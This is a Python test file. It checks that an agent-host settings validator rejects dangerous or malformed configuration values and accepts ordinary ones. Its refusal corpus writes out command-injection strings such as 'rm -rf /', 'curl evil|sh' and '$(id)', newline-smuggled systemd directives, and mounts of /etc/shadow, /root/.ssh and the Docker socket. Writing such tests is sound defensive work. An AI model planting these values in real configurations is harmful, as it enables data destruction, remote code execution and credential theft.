"""The refusal corpus: inputs that would hurt a host or that Docker would refuse, each refused
before any host is touched, naming the host, the setting and the value."""

import pytest

from agenthost.settings import SettingsError, validate

PYINFRA_KEYS = {"ssh_user", "ssh_port"}


def agent(**spec):
    return {"agent_containers": [{"name": "ci", "image": "agenthost/agent:1", **spec}]}


def build(**spec):
    return {"agent_image_build": {"tag": "agenthost/agent:1", **spec}}


# Accepted before, and dangerous (issue 23); tests/e2e/test_refusals.py runs them through pyinfra.
DANGEROUS = [
    ({"agent_workspace": "/var/lib/docker"},
     "agent_workspace = '/var/lib/docker': /var/lib/docker is"),
    ({"agent_home": "/var/lib/containerd"}, "agent_home = '/var/lib/containerd'"),
    ({"agent_workspace": "/var/lib/dpkg"}, "agent_workspace = '/var/lib/dpkg'"),
    ({"agent_workspace": "/var/lib/apt/lists"}, "agent_workspace = '/var/lib/apt/lists'"),
    ({"agent_workspace": "/var/lib/agenthost/apply"},
     "agent_workspace = '/var/lib/agenthost/apply'"),
    ({"agent_home": "/var/lib/agenthost/agent-secrets"}, "agent_home = '/var/lib/agenthost/agent"),
    ({"agent_workspace": "/var/backups/agenthost"}, "agent_workspace = '/var/backups/agenthost'"),
    ({"agent_home": "/home/alice"}, "agent_home = '/home/alice' is in /home/alice, the home of"),
    ({"agent_workspace": "/home/alice/ci"}, "agent_workspace = '/home/alice/ci' is in /home/alice"),
    ({"agent_home": "/home/admin", "ssh_user": "admin"}, "agent_home = '/home/admin' is in"),
    (agent(volumes=["/proc/sys:/s"]), "agent_containers.0.volumes = ['/proc/sys:/s']"),
    (agent(volumes=["/sys/fs/cgroup:/c"]),
     "agent_containers.0.volumes = ['/sys/fs/cgroup:/c']"),
    (agent(volumes=["/dev/sda:/d"]),
     "agent_containers.0.volumes = ['/dev/sda:/d']"),
    (agent(volumes=["/etc/shadow:/s:ro"]),
     "agent_containers.0.volumes = ['/etc/shadow:/s:ro']"),
    (agent(volumes=["/root/.ssh:/k"]),
     "agent_containers.0.volumes = ['/root/.ssh:/k']"),
    (agent(volumes=["/run/docker.sock:/var/run/docker.sock"]),
     "agent_containers.0.volumes = ['/run/docker.sock:/var/run/docker.sock']"),
    (agent(volumes=["/var/lib/agenthost/agent-secrets:/s"]),
     "agent_containers.0.volumes = ['/var/lib/agenthost/agent-secrets:/s']"),
    ({"docker_source": "docker-ce", "docker_ce_repository_url": "http://mirror.example/docker"},
     "docker_ce_repository_url = 'http://mirror.example/docker': Docker's signing key would come"),
    ({"docker_source": "docker-ce", "docker_ce_key_url": "http://mirror.example/gpg"},
     "docker_ce_key_url = 'http://mirror.example/gpg': Docker's signing key"),
    (agent(cpus=float("inf")), "agent_containers.0.cpus = inf"),
    (agent(cpus=float("nan")), "agent_containers.0.cpus = nan"),
    (agent(stop_timeout=86400), "agent_containers.0.stop_timeout = 86400"),
    (agent(pids_limit=0), "agent_containers.0.pids_limit = 0"),
]


CORPUS = [
    ({"agent_workspace": "/"}, "agent_workspace = '/'"),
    ({"agent_workspace": "/home"}, "agent_workspace = '/home'"),
    ({"agent_workspace": "/tmp"}, "agent_workspace = '/tmp'"),
    ({"agent_home": "/etc"}, "agent_home = '/etc'"),
    ({"agent_home": "/usr"}, "agent_home = '/usr'"),
    ({"agent_home": "/var"}, "agent_home = '/var'"),
    ({"agent_home": "/root"}, "agent_home = '/root'"),
    ({"agent_workspace": "/var/lib/docker/ws"}, "agent_workspace = '/var/lib/docker/ws'"),
    ({"agent_workspace": "/srv/ws/../../etc"}, "agent_workspace = '/srv/ws/../../etc'"),
    ({"agent_workspace": "/srv/my ws"}, "agent_workspace = '/srv/my ws'"),
    ({"agent_home": "/home/ci;rm -rf /"}, "agent_home = '/home/ci;rm -rf /'"),
    ({"agent_workspace": "/data/ws", "docker_daemon_options": {"data-root": "/data"}},
     "agent_workspace = '/data/ws' is inside Docker's data-root /data"),
    ({"agent_user": "root"}, "agent_user = 'root'"),
    ({"agent_user": "daemon"}, "agent_user = 'daemon'"),
    ({"agent_user": "nobody"}, "agent_user = 'nobody'"),
    ({"agent_user": "systemd-network"}, "agent_user = 'systemd-network'"),
    ({"agent_user": "admin", "ssh_user": "admin"}, "agent_user = 'admin': it is the user pyinfra"),
    ({"agent_uid": 0}, "agent_uid = 0"),
    ({"docker_prune_schedule": "daily\nUnit=reboot.target"},
     "docker_prune_schedule = 'daily\\nUnit=reboot.target'"),
    ({"docker_prune_schedule": "daily;reboot"}, "docker_prune_schedule = 'daily;reboot'"),
    ({"docker_no_proxy": ["example.com\nExecStartPre=/bin/sh"]}, "docker_no_proxy.0 = "),
    ({"docker_no_proxy": ["a b"]}, "docker_no_proxy = ['a b']"),
    (build(base="debian:12\nRUN curl evil|sh"), "agent_image_build.base = "),
    (build(base="Debian:12"), "agent_image_build.base = 'Debian:12'"),
    (build(packages=["git\nRUN id"]), "agent_image_build.packages.0 = "),
    (build(packages=["git; id"]), "agent_image_build.packages = ['git; id']"),
    (build(tag="x y"), "agent_image_build.tag = 'x y'"),
    (agent(image="debian:12;touch /tmp/pwned"), "agent_containers.0.image = "),
    (agent(image="$(id)"), "agent_containers.0.image = '$(id)'"),
    (agent(environment={"X": "1\nY=2"}), "agent_containers.0.environment.X = "),
    (agent(environment={"export X": "1"}), "agent_containers.0.environment = "),
    (agent(labels={"agenthost.spec": "x"}), "agent_containers.0.labels = "),
    (agent(labels={"com.docker.compose.project": "x"}), "agent_containers.0.labels = "),
    (agent(ports=["99999:80"]), "agent_containers.0.ports = ['99999:80']"),
    (agent(ports=["8080:0"]), "agent_containers.0.ports = ['8080:0']"),
    (agent(ports=["80;id"]), "agent_containers.0.ports = ['80;id']"),
    (agent(memory="1"), "agent_containers.0.memory = '1'"),
    (agent(memory="4m"), "agent_containers.0.memory = '4m'"),
    (agent(memory="lots"), "agent_containers.0.memory = 'lots'"),
    (agent(cpus=0), "agent_containers.0.cpus = 0"),
    (agent(cpus=-1), "agent_containers.0.cpus = -1"),
    (agent(volumes=["/srv/a:b:c:d"]), "agent_containers.0.volumes = "),
    (agent(volumes=["/srv/cache"]), "agent_containers.0.volumes = "),
    (agent(volumes=["/:/host"]), "agent_containers.0.volumes = "),
    (agent(volumes=["/var/lib/docker:/d"]), "agent_containers.0.volumes = "),
    (agent(volumes=["/srv/a:/a:rw;id"]), "agent_containers.0.volumes = "),
    (agent(name="-rm"), "agent_containers.0.name = '-rm'"),
    (agent(command=["sleep", "1\n"]), "agent_containers.0.command.1 = "),
    ({"agent_java": "openjdk-17-jre; id"}, "agent_java = 'openjdk-17-jre; id'"),
    ({"docker_users": ["a\nb"]}, "docker_users.0 = 'a\\nb'"),
    *DANGEROUS,
]


@pytest.mark.parametrize(("data", "fragment"), CORPUS, ids=[repr(d)[:60] for d, _ in CORPUS])
def test_refused_naming_host_setting_and_value(data, fragment):
    with pytest.raises(SettingsError) as caught:
        validate("agent-01", data, PYINFRA_KEYS)
    assert f"host agent-01: {fragment}" in str(caught.value)


def test_the_corpus_is_large():
    assert len(CORPUS) >= 70


@pytest.mark.parametrize(
    "data",
    [
        {"agent_workspace": "/srv/ci/workspace", "agent_home": "/home/ci", "agent_user": "ci"},
        {"docker_no_proxy": ["localhost", ".corp.example", "10.0.0.0/8", "[::1]:80"]},
        {"docker_prune_schedule": "*-*-* 03:00:00"},
        agent(image="registry.example:5000/team/agent:1.2@sha256:" + "a" * 64, memory="512m",
              ports=["8080:80", "127.0.0.1:9000-9001:9000-9001/udp"], cpus=0.5,
              volumes=["/srv/cache:/cache:ro,z", "m2:/m2"], labels={"team": "ci"},
              environment={"JAVA_OPTS": "-Xmx1g"}),
        build(base="debian:trixie-slim", packages=["git=1:2.47.3-0+deb13u1", "tini"]),
        {"agent_user": "ci", "ssh_user": "admin"},
        {"agent_user": "ci", "agent_workspace": "/home/ci/work", "agent_home": "/home/ci"},
        {"agent_workspace": "/var/lib/agenthost/workspace/ci"},
        {"docker_source": "docker-ce", "docker_ce_repository_url": "http://mirror.example/d",
         "docker_ce_key_url": "https://mirror.example/d/gpg"},
        agent(volumes=["/srv/etc:/etc:ro", "/var/lib/agenthost/workspace:/w"], stop_timeout=3600,
              pids_limit=512),
    ],
)
def test_ordinary_values_pass(data):
    validate("agent-01", data, PYINFRA_KEYS)
